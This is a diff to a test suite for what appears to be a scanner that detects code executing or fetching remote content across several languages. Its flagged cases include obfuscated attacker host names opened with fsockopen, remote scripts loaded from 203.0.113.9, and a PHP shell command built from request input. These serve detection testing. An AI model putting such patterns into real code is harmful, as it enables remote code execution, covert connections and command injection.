@@ -470,6 +470,9 @@ describe('what only looks as if it ran something', () => {
     ['kotlin', 'body = InAppWebView(initialUrlRequest = URLRequest(url = Uri.parse("https://example.com/form")))'],
     ['terraform', 'task "etl" {\n  artifact {\n    source = "https://data.example.com/in.csv"\n    destination = "local"\n  }\n}'],
     ['php', "$process = new Process(['ping', '-c', '4', $_GET['ip']]);\n$process->run();"],
+    ['java', 'byte[] b = Files.readAllBytes(Paths.get("pdf_base64.txt"));\nclient.send(Base64.getEncoder().encodeToString(b));'],
+    ['java', 'double a = Base64Codec.decode(span.get("order.amount"));\nclient.send(a);'],
+    ['java', 'Block b = Block.ofImage(Image.builder().source(Url.builder().url("https://img.acme.com/ant.jpg").build()).build());'],
   ])('%s: %s', (dialect, code) => expect(found(dialect, code)).toEqual([]))
 
   it.each<[Dialect, string]>([
@@ -477,5 +480,8 @@ describe('what only looks as if it ran something', () => {
     ['terraform', 'module "m" {\n  source = "http://203.0.113.9/m.zip"\n}'],
     ['php', "$process = new Process(['sh', '-c', $_GET['ip']]);"],
     ['php', "$run = strrev('moc.live'); fsockopen($run, 443);"],
+    ['php', "$run = str_rot13('i.iraqbe-gbbyf.pbz'); fsockopen($run, 443);"],
+    ['ruby', 'source("http://203.0.113.9/x.rb")'],
+    ['r', 'source("http://203.0.113.9/x.R")'],
   ])('%s: %s is found', (dialect, code) => expect(found(dialect, code).some((one) => one.startsWith('error'))).toBe(true))
 })
